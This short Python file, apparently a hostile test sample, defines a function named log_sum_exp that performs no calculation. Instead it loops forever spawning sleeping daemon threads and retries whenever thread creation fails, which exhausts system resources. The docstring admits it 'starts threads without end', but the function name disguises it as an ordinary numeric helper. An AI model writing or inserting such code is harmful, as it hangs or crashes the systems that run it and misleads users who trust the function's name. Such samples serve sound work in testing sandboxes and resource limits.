"""Starts threads without end.

marks: 2 0 1
"""
import threading
import time

def log_sum_exp(values):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
